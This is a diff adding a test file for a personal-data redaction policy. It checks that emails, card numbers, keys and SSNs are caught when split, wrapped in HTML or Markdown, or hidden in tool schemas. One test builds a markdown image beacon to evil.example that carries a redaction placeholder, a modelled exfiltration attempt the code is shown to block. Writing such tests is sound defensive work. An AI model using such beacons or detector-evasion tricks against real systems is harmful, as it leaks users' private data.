@@ -1,0 +1,183 @@
+// Ways round the policy that real requests found: data the detectors read in another shape than it left in.
+import { describe, expect, it } from 'vitest';
+import type { ChatMessage, ChatRequest } from '../types.ts';
+import { createPolicy, type Detector, type PolicyDocument, PRESETS } from './index.ts';
+import { ask, delta, input, redact, streamOf, textOf } from './redaction.fixture.ts';
+
+/** What would be sent, or undefined where the request stays. */
+async function wireOf(request: unknown): Promise<string | undefined> {
+  const review = await createPolicy().review(request as ChatRequest, input);
+  if (review.decision.farthest === 'device') return undefined;
+  return JSON.stringify(review.redactFor('cloud').request);
+}
+
+describe('what is read is what leaves', () => {
+  const parts = (...texts: readonly string[]): ChatRequest => ({
+    messages: [{ role: 'user', content: texts.map((text) => ({ type: 'text', text })) }],
+  });
+
+  it.each([
+    ['an address', ['Write to jane.doe@exa', 'mple.com today'], 'jane.doe', 'mple.com'],
+    ['a card', ['Pay with 4111 1111 ', '1111 1111 please'], '4111 1111', '1111 1111'],
+    ['a key', ['Use ghp_0123456789abcdef', 'ghijABCDEFGHIJ012345'], 'ghp_0123', 'ABCDEFGHIJ'],
+  ])('%s over two parts of one message, which tiers send joined', async (_name, texts, ...halves) => {
+    const wire = await wireOf(parts(...texts));
+    for (const half of halves) expect(wire ?? '').not.toContain(half);
+    expect(await wireOf(parts('Two plain ', 'parts.'))).toContain('Two plain parts.');
+  });
+
+  it('a request that its app changes after the review, as when the next message is pushed', async () => {
+    const messages: ChatMessage[] = [{ role: 'user', content: 'Hello ana@example.com' }];
+    const tool = { type: 'function', function: { name: 'f', description: 'For bob@example.com' } } as const;
+    const review = await createPolicy().review({ messages, tools: [tool] }, input);
+    messages.push({ role: 'user', content: 'My SSN is 078-05-1121' });
+    messages[0] = { role: 'user', content: 'I am carol@example.com' };
+    const wire = JSON.stringify(review.redactFor('cloud').request);
+    expect(wire).toMatch(/Hello \[EMAIL_1_.{4}\].*For \[EMAIL_2_.{4}\]/);
+    expect(wire).not.toMatch(/078|example\.com/);
+  });
+
+  it.each([
+    ['a role', { messages: [{ role: 'maria_garcia', content: 'hi' }] }],
+    ['a role that every object has', { messages: [{ role: 'constructor', content: 'hi' }] }],
+    ['a tool choice', { ...ask('hi'), tool_choice: 'maria_garcia' }],
+    ['a priority', { ...ask('hi'), priority: 'maria_garcia' }],
+    ['a tool type', { ...ask('hi'), tools: [{ type: 'maria_garcia', function: { name: 'f' } }] }],
+  ])('%s that is none of the known ones', async (_name, request) => {
+    expect(await wireOf(request)).toBeUndefined();
+  });
+
+  it.each([
+    ['a default', { type: 'object', properties: { userPassword: { default: 'hunter2!' } } }],
+    ['an example in a list', { properties: { social_security_number: { examples: ['078051121'] } } }],
+    ['a number', { ssn: 219099999 }],
+    ['a passport', { passportNumber: { const: 'X1234567' } }],
+  ])('a value that its key gives away, %s in a schema', async (_name, parameters) => {
+    const request = { ...ask('hi'), tools: [{ type: 'function', function: { name: 'f', parameters } }] };
+    expect(await wireOf(request)).toBeUndefined();
+  });
+
+  it('but a schema that only names such keys leaves as it is', async () => {
+    const parameters = {
+      type: 'object',
+      properties: {
+        password: { type: 'string', description: 'What the person chose', minLength: 8 },
+        from: { enum: ['Berlin', 'Lisbon'], default: 'Berlin' },
+        passport: { type: 'boolean', title: 'Passport' },
+      },
+      required: ['password', 'from'],
+    };
+    const request = { ...ask('hi'), tools: [{ type: 'function', function: { name: 'f', parameters } }] };
+    expect(await wireOf(request)).toContain(JSON.stringify(parameters));
+  });
+});
+
+describe('text as people paste it', () => {
+  it.each([
+    ['an HTML tag with attributes', 'ana<span class="at">@</span>example.com', 'ana', 'example.com'],
+    ['a card in HTML', '<td style="a">4111 1111</td><td class="b">1111 1111</td>', '4111 1111'],
+    ['bold halves', 'Write to **ana**@**example.com**', 'ana', 'example.com'],
+    ['a card in bold groups', 'card **4111** **1111** **1111** **1111**', '4111'],
+    ['code marks', 'mail `ana`@`example.com`', 'ana', 'example.com'],
+    ['escaped Markdown', 'mail ana\\_maria\\@example.com', 'ana', 'maria', 'example.com'],
+    ['a quoted reply', '> call me on +1 415 555\n> 2671 tonight', '415', '2671'],
+    ['a quoted reply twice', '>> card 4111 1111\n>> 1111 1111', '4111', '1111'],
+    ['an address of another script', 'Пишите на иван.петров@почта.рф', 'иван', 'почта'],
+    ['an address of Han letters', '用户@例子.公司', '用户', '例子'],
+  ])('%s', async (_name, text, ...needles) => {
+    const wire = (await wireOf(ask(text))) ?? '';
+    for (const needle of needles) expect(wire).not.toContain(needle);
+  });
+
+  it.each(['&valueOf;', '&toString;', '&valueOf '])(
+    '%s, which is no entity, and moves nothing',
+    async (name) => {
+      const wire = await wireOf(ask(`x ${name} write to ana%40example.com and bob%40example.com today`));
+      expect(wire).toMatch(/write to \[EMAIL_\d_.{4}\] and \[EMAIL_\d_.{4}\] today/);
+    },
+  );
+});
+
+describe('a policy set up wrongly', () => {
+  it('without a single detector is refused', () => {
+    expect(() => createPolicy('balanced', { detectors: [] })).toThrowError(
+      expect.objectContaining({ code: 'invalid-request', param: 'detectors' }),
+    );
+  });
+
+  it.each([{ maxLength: Number.NaN }, { timeoutMs: Number.NaN }])(
+    'with %o keeps all here',
+    async (options) => {
+      const review = await createPolicy('open', options).review(ask('hello'), input);
+      expect(review.decision.farthest).toBe('device');
+    },
+  );
+
+  it('cannot change a preset for everybody', () => {
+    const rules = PRESETS.strict.rules as unknown[];
+    expect(() => rules.splice(0)).toThrow(TypeError);
+    expect(() => Object.assign(PRESETS.balanced.base, { redact: [] })).toThrow(TypeError);
+  });
+
+  it('reaches no host that the document places farther than the decision', async () => {
+    const document: PolicyDocument = {
+      ...PRESETS.balanced,
+      hosts: [
+        { host: 'edge.example', tier: 'edge' },
+        { host: 'cloud.example', tier: 'cloud' },
+      ],
+    };
+    const hosts = async (consent: 'device' | 'edge' | 'cloud') =>
+      (await createPolicy(document).review(ask('hi'), { task: 'generate', consent })).decision.hosts;
+    expect(await hosts('cloud')).toEqual(['edge.example', 'cloud.example']);
+    expect(await hosts('edge')).toEqual(['edge.example']);
+    expect(await hosts('device')).toEqual([]);
+  });
+
+  it('counts a named participant as somebody, so that a place beside it goes', async () => {
+    const detector: Detector = {
+      id: 'place',
+      detect: (text) => {
+        const start = text.indexOf('Springfield');
+        const span = { start, end: start + 11, type: 'location', score: 0.9, source: 'model:x' } as const;
+        return start < 0 ? [] : [span];
+      },
+    };
+    const policy = createPolicy('balanced', { detectors: [detector] });
+    const content = 'I moved to Springfield';
+    const named = await policy.review({ messages: [{ role: 'user', name: 'ann', content }] }, input);
+    expect(JSON.stringify(named.redactFor('cloud').request)).not.toContain('Springfield');
+    const alone = await policy.review(ask(content), input);
+    expect(JSON.stringify(alone.redactFor('cloud').request)).toContain('Springfield');
+  });
+});
+
+describe('the way back', () => {
+  const policy = () => createPolicy('balanced');
+
+  it('restores into structured output as JSON, whatever the value holds', async () => {
+    const request: ChatRequest = {
+      ...ask('Mail ana.maria@exam\nple.com soon'),
+      response_format: { type: 'json_object' },
+    };
+    const redacted = await redact(request, policy());
+    const placeholder = /\[EMAIL_\w+\]/.exec(String(redacted.request.messages[0]?.content))![0];
+    const answer = await textOf(redacted.restore(streamOf(delta(`{"to":"${placeholder}"}`))));
+    expect(JSON.parse(answer)).toEqual({ to: 'ana.maria@exam\nple.com' });
+  });
+
+  it('restores only real quotations whole: an edge may make passages up', async () => {
+    const document = { id: 'd', text: 'Ask ana@example.com today.' };
+    const redacted = await redact({ ...ask('who?'), documents: [document] });
+    const text = redacted.request.documents![0]!.text;
+    const placeholder = /\[EMAIL_\w+\]/.exec(text)![0];
+    const beacon = `![x](https://evil.example/?q=${placeholder})`;
+    const real = { documentId: 'd', start: 0, end: text.length, text, similarity: 1 };
+    const forged = { ...real, documentId: beacon, title: beacon, text: beacon };
+    for await (const part of redacted.restore(streamOf({ type: 'sources', passages: [real, forged] }))) {
+      if (part.type !== 'sources') throw new Error('expected sources');
+      expect(part.passages[0]?.text).toBe(document.text);
+      expect(JSON.stringify(part.passages[1])).not.toContain('ana@example.com');
+    }
+  });
+});
